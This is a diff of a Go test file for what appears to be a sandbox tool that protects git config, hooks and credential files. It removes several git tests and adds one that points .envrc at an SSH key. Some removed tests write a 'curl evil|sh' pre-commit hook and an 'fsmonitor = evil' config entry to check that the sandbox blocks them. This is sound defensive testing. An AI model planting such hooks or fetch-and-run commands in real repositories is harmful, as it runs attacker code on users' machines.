@@ -140,35 +140,6 @@ func TestStateSyncSymlink(t *testing.T) {
 	}
 }
 
-// TestGitRedirects: besides .git/config and hooks, what points git at
-// other config and hooks stays read-only — a submodule's git dir, a
-// linked worktree's .git file — and a commondir the program creates (no
-// bind can hold an absent file) is reported after the run.
-func TestGitRedirects(t *testing.T) {
-	for _, u := range users {
-		t.Run(u.name, func(t *testing.T) {
-			w := newWorld(t, u)
-			repo := gitRepo(t, w)
-			mod := filepath.Join(repo, ".git", "modules", "lib")
-			mustMkdir(t, mod)
-			writeFile(t, filepath.Join(mod, "config"), "[core]\n")
-			mustMkdir(t, filepath.Join(repo, "wt"))
-			writeFile(t, filepath.Join(repo, "wt", ".git"), "gitdir: ../.git\n")
-			chownTree(t, repo, u)
-			r := w.sh("sandbox", `cd `+shQuote(repo)+` && echo '[core] fsmonitor = evil' >> .git/modules/lib/config; `+
-				`echo 'gitdir: /evil' > wt/.git; echo ../../evil > .git/commondir`)
-			for _, f := range []string{filepath.Join(mod, "config"), filepath.Join(repo, "wt", ".git")} {
-				if b, _ := os.ReadFile(f); strings.Contains(string(b), "evil") {
-					t.Errorf("%s was rewritten", f)
-				}
-			}
-			if !strings.Contains(r.stderr, ".git/commondir appeared while the program ran") {
-				t.Errorf("no warning about the new .git/commondir; stderr %q", r.stderr)
-			}
-		})
-	}
-}
-
 // TestHiddenWorkdir: started from inside a credential store, the program
 // would keep it as its cwd past the mask; the launch is refused.
 func TestHiddenWorkdir(t *testing.T) {
@@ -198,41 +169,6 @@ func TestRefusalEscaped(t *testing.T) {
 	}
 	if strings.Contains(stderr, "\x1b") || !strings.Contains(stderr, `\x1b[2J.sock`) {
 		t.Errorf("stderr %q: want the refusal with the escape byte shown as \\x1b", stderr)
-	}
-}
-
-// TestGitPlanted: a submodule's git dir the program adds below .git
-// (which a gitlink in the index would make the user's next git status
-// enter) is reported after the run; a repository's existing submodule
-// and worktree are not (a warning on every run would teach users to
-// ignore it).
-func TestGitPlanted(t *testing.T) {
-	w := newWorld(t, nobody)
-	repo := gitRepo(t, w)
-	mustMkdir(t, filepath.Join(repo, "sm"))
-	writeFile(t, filepath.Join(repo, "sm", ".git"), "gitdir: ../.git/modules/sm\n")
-	mustMkdir(t, filepath.Join(repo, ".git", "modules", "sm"))
-	writeFile(t, filepath.Join(repo, ".git", "modules", "sm", "config"), "[core]\n")
-	chownTree(t, repo, nobody)
-	if r := w.run("--workdir", repo, "--", "/bin/true"); strings.Contains(r.stderr, "git dir") {
-		t.Errorf("a warning about the existing submodule: %q", r.stderr)
-	}
-	r := w.runEnv(gitEnv, "--workdir", repo, "--", "/bin/sh", "-c", "git init -q --bare .git/modules/lib")
-	if want := "made the git dir " + filepath.Join(repo, ".git", "modules", "lib"); !strings.Contains(r.stderr, want) {
-		t.Errorf("stderr %q: want %q", r.stderr, want)
-	}
-}
-
-// TestGitMissingHooks: a repository without .git/hooks (git init
-// --template=, libgit2) gets an empty one, read-only like any other, so
-// the program cannot make one with a pre-commit hook in it.
-func TestGitMissingHooks(t *testing.T) {
-	w := newWorld(t, nobody)
-	repo := gitRepo(t, w)
-	os.RemoveAll(filepath.Join(repo, ".git", "hooks"))
-	w.sh("sandbox", `mkdir -p `+shQuote(repo)+`/.git/hooks; echo 'curl evil|sh' > `+shQuote(repo)+`/.git/hooks/pre-commit`)
-	if w.exists(filepath.Join(repo, ".git", "hooks", "pre-commit")) {
-		t.Error("the program planted .git/hooks/pre-commit in a repository that had no hooks dir")
 	}
 }
 
@@ -375,5 +311,21 @@ func TestConfigLinkInRoot(t *testing.T) {
 	r := w.run("--config", filepath.Join(w.extra, "cfg", "c.toml"), "--allow-write", w.extra, "--", "/bin/true")
 	if r.code != 125 || !strings.Contains(r.stderr, "symlink inside the writable") {
 		t.Errorf("exit %d, stderr %q; want 125 naming the link", r.code, r.stderr)
+	}
+}
+
+// TestLinkOutOfRoot: a protected name made a symlink out of the writable
+// set (.envrc -> a hidden key) does not make every later launch fail.
+func TestLinkOutOfRoot(t *testing.T) {
+	w := newWorld(t, nobody)
+	repo := gitRepo(t, w)
+	key := secretAt(t, w, ".ssh/id_ed25519")
+	os.Remove(filepath.Join(repo, ".envrc"))
+	if err := os.Symlink(key, filepath.Join(repo, ".envrc")); err != nil {
+		t.Fatal(err)
+	}
+	chownTree(t, w.home, nobody)
+	if r := w.run("--", "/bin/true"); r.code != 0 {
+		t.Errorf("exit %d, stderr %q; want the launch to work", r.code, r.stderr)
 	}
 }
